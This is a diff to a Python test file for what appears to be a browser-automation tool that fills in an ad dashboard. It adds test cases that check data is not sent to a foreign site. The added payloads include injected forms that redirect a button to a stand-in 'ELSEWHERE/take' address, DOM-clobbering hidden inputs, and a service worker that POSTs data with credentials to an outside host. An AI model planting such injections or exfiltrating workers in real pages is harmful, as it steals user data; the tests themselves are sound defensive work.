@@ -147,6 +147,9 @@ async def test_nothing_of_the_batch_or_the_session_leaves_for_another_port(
     assert len(here.site.ledger()) == (2 if here.statuses() == [Status.SUCCESS] else 0)
 
 
+_IN_THE_WAY = (
+    '<form id="astray" action="ELSEWHERE/"><input name="action" hidden><input name="getAttribute" hidden></form>'
+)
 _TOLD = "would send to another site (ELSEWHERE). This was stopped."
 #: What is changed on the page, and which button is then wrong.
 ASTRAY = {
@@ -158,6 +161,11 @@ ASTRAY = {
     "the form of the last button": (
         '<button type="button" class="create-ads',
         '<form id="astray" action="ELSEWHERE/take" method="post"></form><button form="astray" class="create-ads',
+        "“Create ad(s)”",
+    ),
+    "the form of the last button, with fields in the way of asking": (
+        '<button type="button" class="create-ads',
+        f'{_IN_THE_WAY}<button form="astray" class="create-ads',
         "“Create ad(s)”",
     ),
     "the last button's own address": (
@@ -245,8 +253,21 @@ async def test_another_port_that_looks_like_the_dashboard_gets_nothing(
     assert f"led to another site ({here.site.site_url})" in entry.error
 
 
-async def test_a_redirect_of_what_was_sent_is_stopped_too(elsewhere: Elsewhere) -> None:
+async def test_redirects_of_what_was_sent_and_service_workers_are_stopped_too(elsewhere: Elsewhere) -> None:
+    worker = (
+        "self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));"
+        f"self.addEventListener('message', () => fetch('{elsewhere.url}/take',"
+        " {method: 'POST', body: 'Ad Name', mode: 'no-cors', credentials: 'include'}));"
+    )
+
+    by_worker = (
+        "navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)"
+        ".then((one) => one.active.postMessage('go'))"
+    )
+
     async def lead_astray(request: web.Request) -> web.Response:
+        if request.path == "/worker.js":
+            return web.Response(text=worker, content_type="text/javascript")
         if request.method == "GET":
             return web.Response(text="<form method='post'></form>", content_type="text/html")
         raise web.HTTPTemporaryRedirect(f"{elsewhere.url}/take")
@@ -268,6 +289,7 @@ async def test_a_redirect_of_what_was_sent_is_stopped_too(elsewhere: Elsewhere) 
         for sending in (
             "fetch('/x', {method: 'POST', body: 'Ad Name'}).catch(() => 0)",
             "fetch('/x', {method: 'POST', body: 'Ad Name', mode: 'no-cors'}).catch(() => 0)",
+            by_worker,
             "document.forms[0].submit()",
         ):
             await page.evaluate(sending)
